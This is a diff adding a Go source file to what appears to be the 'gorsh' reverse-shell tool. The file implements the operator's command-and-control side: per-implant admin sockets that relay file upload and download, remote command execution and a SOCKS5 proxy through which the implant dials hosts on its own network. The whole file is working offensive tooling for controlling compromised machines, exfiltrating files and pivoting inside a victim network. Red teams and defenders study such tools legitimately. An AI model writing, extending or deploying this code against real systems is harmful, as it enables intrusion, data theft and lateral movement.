@@ -0,0 +1,256 @@
+package main
+
+import (
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"path/filepath"
+
+	"github.com/clayne/gorsh/session"
+	"github.com/clayne/gorsh/transport"
+	log "github.com/sirupsen/logrus"
+)
+
+// adminSocketPath returns the per-host unix socket an operator's
+// `gorsh -a <host> upload|download|socks ...` invocation dials into to
+// reach the already-established yamux session for that implant.
+func adminSocketPath(hostname string) string {
+	return filepath.Join(".state", hostname+".admin.sock")
+}
+
+// serveAdmin listens on hostname's admin socket for the lifetime of its
+// implant session, dispatching each request onto a fresh yamux stream.
+func serveAdmin(hostname string, hs *session.Info) {
+	sockPath := adminSocketPath(hostname)
+	os.Remove(sockPath)
+
+	l, err := net.Listen("unix", sockPath)
+	if err != nil {
+		log.WithError(err).Warn("admin socket listen failed")
+		return
+	}
+	defer os.Remove(sockPath)
+	defer l.Close()
+
+	for {
+		conn, err := l.Accept()
+		if err != nil {
+			log.WithField("host", hostname).Debug("admin socket closed")
+			return
+		}
+		go handleAdminConn(conn, hs)
+	}
+}
+
+// handleAdminConn services one operator request against hs's mux: it opens
+// the corresponding implant stream and pumps it to/from the local file path
+// the operator gave on the command line.
+func handleAdminConn(conn net.Conn, hs *session.Info) {
+	defer conn.Close()
+
+	req, err := transport.ReadRequest(conn)
+	if err != nil {
+		log.WithError(err).Warn("admin request read failed")
+		return
+	}
+
+	switch req.Kind {
+	case transport.KindUpload:
+		if len(req.Args) != 2 {
+			log.Warn("upload: expected <local> <remote>")
+			return
+		}
+		stream, err := hs.Mux.OpenStream(transport.KindUpload, req.Args[1])
+		if err != nil {
+			log.WithError(err).Warn("upload stream open failed")
+			return
+		}
+		defer stream.Close()
+		pumpFromFile(stream, req.Args[0])
+
+	case transport.KindDownload:
+		if len(req.Args) != 2 {
+			log.Warn("download: expected <remote> <local>")
+			return
+		}
+		stream, err := hs.Mux.OpenStream(transport.KindDownload, req.Args[0])
+		if err != nil {
+			log.WithError(err).Warn("download stream open failed")
+			return
+		}
+		defer stream.Close()
+		pumpToFile(stream, req.Args[1])
+
+	case transport.KindSOCKS:
+		if len(req.Args) != 1 {
+			log.Warn("socks: expected <bind addr>")
+			return
+		}
+		if err := runSOCKS(req.Args[0], hs); err != nil {
+			log.WithError(err).Warn("socks listener failed")
+		}
+
+	case transport.KindExec:
+		stream, err := hs.Mux.OpenStream(transport.KindExec, req.Args...)
+		if err != nil {
+			log.WithError(err).Warn("exec stream open failed")
+			return
+		}
+		defer stream.Close()
+		io.Copy(os.Stdout, stream)
+
+	default:
+		log.WithField("kind", req.Kind).Warn("admin: unknown stream kind")
+	}
+}
+
+func pumpFromFile(stream net.Conn, localPath string) {
+	f, err := os.Open(localPath)
+	if err != nil {
+		log.WithError(err).Warn("upload: open local file failed")
+		return
+	}
+	defer f.Close()
+
+	if _, err := io.Copy(stream, f); err != nil {
+		log.WithError(err).Warn("upload: copy failed")
+	}
+}
+
+func pumpToFile(stream net.Conn, localPath string) {
+	f, err := os.Create(localPath)
+	if err != nil {
+		log.WithError(err).Warn("download: create local file failed")
+		return
+	}
+	defer f.Close()
+
+	if _, err := io.Copy(f, stream); err != nil {
+		log.WithError(err).Warn("download: copy failed")
+	}
+}
+
+// runSOCKS starts a local SOCKS5 listener (no auth, CONNECT only) and, for
+// each accepted client, opens a "socks" stream asking the implant to dial
+// the requested target on its own network and relay bytes to it.
+func runSOCKS(bind string, hs *session.Info) error {
+	l, err := net.Listen("tcp", bind)
+	if err != nil {
+		return fmt.Errorf("socks listen: %w", err)
+	}
+	log.WithFields(log.Fields{"bind": bind, "host": hs.Name}).Info("SOCKS5 listener started")
+
+	go func() {
+		defer l.Close()
+		for {
+			conn, err := l.Accept()
+			if err != nil {
+				log.Debug("socks listener closed")
+				return
+			}
+			go serveSOCKSClient(conn, hs)
+		}
+	}()
+	return nil
+}
+
+func serveSOCKSClient(conn net.Conn, hs *session.Info) {
+	defer conn.Close()
+
+	target, err := socksHandshake(conn)
+	if err != nil {
+		log.WithError(err).Warn("socks handshake failed")
+		return
+	}
+
+	stream, err := hs.Mux.OpenStream(transport.KindSOCKS, target)
+	if err != nil {
+		log.WithError(err).Warn("socks stream open failed")
+		return
+	}
+	defer stream.Close()
+
+	go io.Copy(stream, conn)
+	io.Copy(conn, stream)
+}
+
+// socksHandshake performs a minimal no-auth SOCKS5 negotiation and returns
+// the "host:port" the client asked to CONNECT to.
+func socksHandshake(conn net.Conn) (target string, err error) {
+	buf := make([]byte, 262)
+
+	if _, err = io.ReadFull(conn, buf[:2]); err != nil {
+		return "", fmt.Errorf("socks greeting: %w", err)
+	}
+	if buf[0] != 0x05 {
+		return "", fmt.Errorf("unsupported socks version %d", buf[0])
+	}
+
+	nMethods := int(buf[1])
+	if _, err = io.ReadFull(conn, buf[:nMethods]); err != nil {
+		return "", fmt.Errorf("socks methods: %w", err)
+	}
+	if _, err = conn.Write([]byte{0x05, 0x00}); err != nil {
+		return "", err
+	}
+
+	if _, err = io.ReadFull(conn, buf[:4]); err != nil {
+		return "", fmt.Errorf("socks request: %w", err)
+	}
+	if buf[1] != 0x01 {
+		conn.Write([]byte{0x05, 0x07, 0x00, 0x01, 0, 0, 0, 0, 0, 0})
+		return "", fmt.Errorf("unsupported socks command %d", buf[1])
+	}
+
+	var host string
+	switch buf[3] {
+	case 0x01: // IPv4
+		if _, err = io.ReadFull(conn, buf[:4]); err != nil {
+			return "", err
+		}
+		host = net.IP(buf[:4]).String()
+	case 0x03: // domain name
+		if _, err = io.ReadFull(conn, buf[:1]); err != nil {
+			return "", err
+		}
+		n := int(buf[0])
+		if _, err = io.ReadFull(conn, buf[:n]); err != nil {
+			return "", err
+		}
+		host = string(buf[:n])
+	case 0x04: // IPv6
+		if _, err = io.ReadFull(conn, buf[:16]); err != nil {
+			return "", err
+		}
+		host = net.IP(buf[:16]).String()
+	default:
+		return "", fmt.Errorf("unsupported address type %d", buf[3])
+	}
+
+	var portBuf [2]byte
+	if _, err = io.ReadFull(conn, portBuf[:]); err != nil {
+		return "", err
+	}
+	port := binary.BigEndian.Uint16(portBuf[:])
+
+	if _, err = conn.Write([]byte{0x05, 0x00, 0x00, 0x01, 0, 0, 0, 0, 0, 0}); err != nil {
+		return "", err
+	}
+
+	return fmt.Sprintf("%s:%d", host, port), nil
+}
+
+// requestAdmin is the operator-side half of handleAdminConn: it dials
+// hostname's admin socket and sends a single StreamRequest, used by
+// `gorsh -a <host> upload|download|socks|exec ...`.
+func requestAdmin(hostname string, req transport.StreamRequest) error {
+	conn, err := net.Dial("unix", adminSocketPath(hostname))
+	if err != nil {
+		return fmt.Errorf("dial admin socket for %s: %w", hostname, err)
+	}
+	defer conn.Close()
+
+	return transport.WriteRequest(conn, req)
+}